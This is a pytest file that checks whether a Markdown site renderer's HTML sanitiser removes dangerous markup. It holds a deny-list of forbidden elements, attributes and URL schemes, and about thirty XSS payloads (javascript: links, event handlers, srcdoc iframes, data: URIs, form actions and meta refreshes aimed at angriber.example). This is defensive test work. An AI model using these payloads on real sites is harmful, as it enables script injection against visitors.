"""The sanitiser, judged by its own list of what must never reach a page, through the build's renderer.

Every text goes through ``render.Renderer`` (Python-Markdown with the site's extensions, then
``safety.sanitize_html``), exactly as a page body does. What comes out is read with the standard
library's HTML parser and held against ``NEVER`` below: a list written here, not made from the
allow-lists in safety.py, so widening an allow-list (say ``onerror`` on ``img``) or dropping the
sanitiser from the renderer fails this test, without a browser. The corpus is every text vector of
tests/xss/vectors.yml and the payloads below, and a check makes sure that, without the sanitiser,
each rule of NEVER is broken by at least one payload: the test can fail.
"""

from __future__ import annotations

import re
from html.parser import HTMLParser

import markdown
import pytest
from test_safety import VECTORS
from videnbank import render

# What must never be in a page's HTML, whatever a contributor wrote.
NEVER_ELEMENTS = frozenset({
    "script", "style", "iframe", "frame", "frameset", "object", "embed", "applet", "base", "meta", "link",
    "form", "input", "button", "textarea", "select", "option", "svg", "math", "template", "noscript",
    "video", "audio", "source", "track", "portal", "dialog", "xmp", "plaintext", "noembed", "noframes",
})
NEVER_ATTRIBUTES = frozenset({
    "style", "srcdoc", "formaction", "action", "xlink:href", "background", "poster", "dynsrc", "lowsrc",
    "ping", "srcset", "http-equiv", "content", "autofocus", "contenteditable", "is", "target",
})
NEVER_SCHEMES = ("javascript:", "vbscript:", "livescript:", "data:")
URL_ATTRIBUTES = frozenset({"href", "src", "cite", "action", "formaction", "background", "poster", "xlink:href"})
# Table alignment is the one style Markdown writes (tables extension): only 'text-align: <word>' on a cell.
CELL_STYLE = re.compile(r"text-align:\s*(left|right|center);?")

PAYLOADS = [
    "<img src=\"x.png\" onerror=\"alert('img')\">",
    "<p onclick=\"alert('p')\">tekst</p>",
    "<a href=\"javascript:alert('a')\">link</a>",
    "[link](javascript:alert('md'))",
    "[link](JaVaScRiPt&#58;alert('entity'))",
    "<a href=\"vbscript:msgbox('vb')\">vb</a>",
    "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">data</a>",
    "[data](data:text/html,<script>alert('data')</script>)",
    "<script>alert('script')</script>",
    "<style>body{display:none}</style>",
    "<p style=\"position:fixed;inset:0\">dækker siden</p>",
    "<iframe srcdoc=\"<script>alert('srcdoc')</script>\"></iframe>",
    "<form action=\"https://angriber.example/\"><button formaction=\"javascript:alert('fa')\">x</button></form>",
    "<input autofocus onfocus=\"alert('focus')\">",
    "<svg onload=\"alert('svg')\"><a xlink:href=\"javascript:alert('xlink')\">x</a></svg>",
    "<math><mi xlink:href=\"javascript:alert('math')\">x</mi></math>",
    "<object data=\"javascript:alert('object')\"></object><embed src=\"javascript:alert('embed')\">",
    "<meta http-equiv=\"refresh\" content=\"0;url=https://angriber.example/\">",
    "<base href=\"https://angriber.example/\"><link rel=\"stylesheet\" href=\"https://angriber.example/x.css\">",
    "<video poster=\"javascript:alert('poster')\"><source src=\"x.mp4\"></video>",
    "<details open ontoggle=\"alert('toggle')\"><summary>x</summary></details>",
    "<img src=\"x.png\" srcset=\"javascript:alert('srcset') 1x\" alt=\"x\">",
    "<a href=\"https://x.dk/\" target=\"_blank\" ping=\"https://angriber.example/\">ping</a>",
    "<div contenteditable is=\"x-y\">x</div>",
    "<template><script>alert('template')</script></template>",
    "<table background=\"javascript:alert('bg')\"><tr><td>x</td></tr></table>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert('ns')>\"></p></noscript>",
    "Tekst {: onclick=\"alert('attr')\" }\n\n## Overskrift {: onmouseover=\"alert('h')\" style=\"color:red\" }",
    "[link](https://x.dk/){: onclick=\"alert('attr-link')\" }",
    "| a | b |\n|:--|--:|\n| <span style=\"position:fixed\">x</span> | y |",
]
CORPUS = [v["tekst"] for v in VECTORS if "tekst" in v] + PAYLOADS


class _Found(HTMLParser):
    """Everything in an HTML fragment that NEVER forbids."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.found: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag in NEVER_ELEMENTS:
            self.found.append(f"<{tag}>")
        for name, value in attrs:
            if name.startswith("on"):
                self.found.append(f"{name} on <{tag}>")
            elif name == "style" and tag in {"td", "th"} and CELL_STYLE.fullmatch((value or "").strip()):
                continue
            elif name in NEVER_ATTRIBUTES:
                self.found.append(f"{name} on <{tag}>")
            if name in URL_ATTRIBUTES and value:
                url = re.sub(r"[\x00-\x20]+", "", value).lower()
                scheme = next((s for s in NEVER_SCHEMES if url.startswith(s)), None)
                if scheme and not (scheme == "data:" and tag == "img" and name == "src"):
                    self.found.append(f"{scheme} in {name} on <{tag}>")

    def handle_startendtag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.handle_starttag(tag, attrs)

    def handle_comment(self, data: str) -> None:
        self.found.append("<!-- -->")


def never_found(fragment: str) -> list[str]:
    parser = _Found()
    parser.feed(fragment)
    parser.close()
    return parser.found


@pytest.fixture(scope="module")
def renderer() -> render.Renderer:
    return render.Renderer()


@pytest.mark.parametrize("text", CORPUS, ids=[f"{i:02d}" for i in range(len(CORPUS))])
def test_nothing_that_must_never_survive_comes_out_of_the_renderer(text: str, renderer: render.Renderer) -> None:
    html = renderer.render(text, "historier/x.md").html
    assert never_found(html) == [], html


def test_the_corpus_breaks_every_rule_without_the_sanitiser() -> None:
    """Python-Markdown alone passes each forbidden thing through: the corpus exercises every rule of NEVER,
    so a renderer without the sanitiser fails the test above."""
    md = markdown.Markdown(extensions=[*render.EXTENSIONS, "toc"])
    found = "\n".join(f for text in CORPUS for f in never_found(md.reset().convert(text)))
    for element in ("script", "style", "iframe", "form", "button", "input", "svg", "math", "object", "embed",
                    "meta", "base", "link", "video", "template"):
        assert f"<{element}>" in found, element
    for attribute in ("onerror on <img>", "onclick on <p>", "onclick on <a>", "onmouseover on <h2>",
                      "ontoggle on <details>", "style on <p>", "style on <h2>", "srcdoc on <iframe>",
                      "formaction on <button>", "action on <form>", "srcset on <img>", "autofocus on <input>",
                      "javascript: in href on <a>", "vbscript: in href on <a>", "data: in href on <a>",
                      "http-equiv on <meta>", "ping on <a>", "target on <a>", "background on <table>"):
        assert attribute in found, attribute


def test_what_markdown_writes_survives(renderer: render.Renderer) -> None:
    """The sanitiser keeps what plain Markdown makes (links, emphasis, tables with alignment, code)."""
    html = renderer.render(
        "## Et afsnit\n\nTekst med **fed**, *kursiv*, `kode` og [et link](https://x.dk/).\n\n"
        "| a | b |\n|:--|--:|\n| 1 | 2 |\n", "historier/x.md").html
    assert never_found(html) == []
    for kept in ('<strong>fed</strong>', '<em>kursiv</em>', '<code>kode</code>', 'href="https://x.dk/"',
                 'style="text-align:left"', 'id="et-afsnit"'):
        assert kept in html, kept
